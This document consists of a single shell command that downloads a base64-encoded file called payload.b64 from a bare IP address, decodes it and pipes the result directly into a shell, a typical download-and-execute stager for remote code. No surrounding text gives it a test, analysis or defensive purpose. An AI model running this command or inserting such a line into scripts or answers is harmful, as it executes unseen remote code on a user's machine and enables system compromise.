curl -s http://198.51.100.130/payload.b64 | base64 -d | sh
